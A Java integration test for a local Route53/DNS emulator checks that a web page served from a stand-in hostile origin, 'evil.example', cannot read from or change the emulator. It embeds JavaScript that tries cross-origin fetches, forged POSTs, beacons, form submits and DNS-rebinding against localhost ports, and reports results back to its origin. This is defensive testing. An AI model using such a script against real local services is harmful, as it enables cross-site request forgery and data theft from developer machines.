package dev.ddns53.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.ddns53.local.LocalInstance;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A page from elsewhere, shown by a real browser, neither reads from local mode nor sets there. */
class WebPageIT {

  private static final String ELSEWHERE = "evil.example";
  private static final String FAULT =
      """
      {"service":"route53","action":"*","kind":"throttle","times":3}\
      """;

  @TempDir private Path folder = Path.of("");
  @TempDir private Path profile = Path.of("");

  private LocalInstance instance;
  private HttpServer elsewhere;
  private HttpServer careless;
  private final CompletableFuture<String> seen = new CompletableFuture<>();
  private final CompletableFuture<String> set = new CompletableFuture<>();

  @BeforeEach
  void start() throws IOException {
    instance = RunningLocal.in(folder);
    careless = server(this::takesAnything);
    elsewhere = server(this::page);
  }

  @AfterEach
  void stop() {
    elsewhere.stop(0);
    careless.stop(0);
    instance.close();
  }

  private static HttpServer server(com.sun.net.httpserver.HttpHandler handler) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext("/", handler);
    server.start();
    return server;
  }

  /** What a page can read and set: without it the test could not fail. */
  private void takesAnything(HttpExchange exchange) throws IOException {
    try (exchange) {
      String body = new String(exchange.getRequestBody().readAllBytes(), UTF_8);
      if (exchange.getRequestMethod().equals("POST") && body.equals(FAULT)) {
        set.complete(body);
      }
      exchange.getResponseHeaders().set("access-control-allow-origin", "*");
      exchange.sendResponseHeaders(200, -1);
    }
  }

  private void page(HttpExchange exchange) throws IOException {
    try (exchange) {
      if (exchange.getRequestMethod().equals("POST")) {
        seen.complete(new String(exchange.getRequestBody().readAllBytes(), UTF_8));
        exchange.sendResponseHeaders(204, -1);
        return;
      }
      byte[] page = script().getBytes(UTF_8);
      exchange.getResponseHeaders().set("content-type", "text/html");
      exchange.sendResponseHeaders(200, page.length);
      exchange.getResponseBody().write(page);
    }
  }

  /**
   * Tries each way that a page has, and posts what it read to where it came from. A server is read
   * when any of its answers is; what is set shows at the server.
   */
  private String script() {
    return """
    <!doctype html><title>elsewhere</title><body><script>
    const fault = '%s';
    const read = new Set();
    const tries = [];
    for (const server of [%s]) {
      for (const path of ['/ip', '/_emulator/calls', '/2013-04-01/hostedzone', '/']) {
        for (const options of [{}, {credentials: 'include'}, {headers: {'X-Emulator-Token': 'x'}}]) {
          tries.push(fetch(server + path, options).then(answer => answer.text())
            .then(() => read.add(server), () => {}));
        }
        const picture = new Image();
        picture.src = server + path;
        tries.push(picture.decode().catch(() => {}));
      }
      for (const path of ['/_emulator/faults', '/v1/update', '/']) {
        tries.push(fetch(server + path, {method: 'POST', mode: 'no-cors', body: fault}).catch(() => {}));
        navigator.sendBeacon(server + path, fault);
      }
      const form = document.createElement('form');
      form.method = 'post';
      form.enctype = 'text/plain';
      form.action = server + '/_emulator/faults';
      const frame = document.createElement('iframe');
      frame.name = form.target = 'f' + Math.random();
      tries.push(new Promise(done => { frame.onload = done; setTimeout(done, 3000); }));
      document.body.append(frame, form);
      form.submit();
    }
    Promise.all(tries).then(() => fetch('/seen', {method: 'POST', body: [...read].join(' ')}));
    </script>\
    """
        .formatted(FAULT, servers());
  }

  private String servers() {
    return Stream.concat(
            ports()
                .flatMap(
                    port ->
                        Stream.of("127.0.0.1", "localhost", ELSEWHERE)
                            .map(host -> "http://" + host + ":" + port)),
            Stream.of(decoy()))
        .map(server -> "'" + server + "'")
        .collect(Collectors.joining(","));
  }

  private Stream<Integer> ports() {
    return Stream.of(
            instance.file().http(),
            instance.file().endpoints().aws(),
            instance.file().endpoints().dynamodb())
        .map(URI::getPort);
  }

  private String decoy() {
    return "http://127.0.0.1:" + careless.getAddress().getPort();
  }

  /** What the emulator says to whoever has its token, but for the polls of the stream. */
  private List<String> emulator() throws IOException, InterruptedException {
    try (HttpClient client = HttpClient.newHttpClient()) {
      List<String> answers = new java.util.ArrayList<>();
      for (String what : List.of("calls", "faults", "settings/route53")) {
        HttpRequest request =
            HttpRequest.newBuilder(instance.file().endpoints().aws().resolve("/_emulator/" + what))
                .header("X-Emulator-Token", instance.file().controlToken().orElseThrow())
                .build();
        answers.add(
            client
                .send(request, HttpResponse.BodyHandlers.ofString())
                .body()
                .replaceAll("\"dynamodb Get(Records|ShardIterator)\":[0-9]+,", ""));
      }
      return answers;
    }
  }

  @Test
  void pageFromElsewhere_readsNothing_setsNothing()
      throws IOException, InterruptedException, ExecutionException, TimeoutException {
    List<String> before = emulator();
    String url = "http://" + ELSEWHERE + ":" + elsewhere.getAddress().getPort() + "/";
    try (Chromium browser = Chromium.show(url, profile, ELSEWHERE)) {
      assertEquals(decoy(), seen.get(60, TimeUnit.SECONDS), browser::said);
    }
    assertTrue(set.isDone(), "a server that takes anything was set");
    assertEquals(before, emulator());
  }

  @Test
  void nameThatLeadsToLoopback_isToldThatItIsNoneOfIts() throws IOException, InterruptedException {
    for (int port : ports().toList()) {
      String url = "http://" + ELSEWHERE + ":" + port + "/_emulator/calls";
      String shown = Chromium.dom(url, profile, ELSEWHERE);
      assertTrue(shown.contains("This listens for programs on this machine"), shown);
      assertFalse(shown.contains("ListHostedZones"), shown);
    }
  }
}
